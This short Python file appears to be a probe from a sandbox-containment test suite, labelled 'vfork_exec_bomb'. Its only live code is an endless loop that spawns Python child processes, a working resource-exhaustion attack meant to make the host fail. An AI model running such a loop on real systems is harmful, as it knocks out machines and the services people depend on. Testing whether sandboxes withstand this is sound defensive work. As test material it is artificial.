# NAME: vfork_exec_bomb
# ATTEMPTS: start programs for ever
# DETECT: host:failed
import ctypes, errno, json, mmap, os, signal, socket, struct, sys, threading, time
P = json.load(open("params.json"))
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def win(x): print("ESCAPED", x, flush=True)
def attempt(f, *a):
    try: return f(*a)
    except (OSError, ValueError, RuntimeError) as e: print(type(e).__name__, e)
import subprocess
while True:
    try: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    except OSError: pass
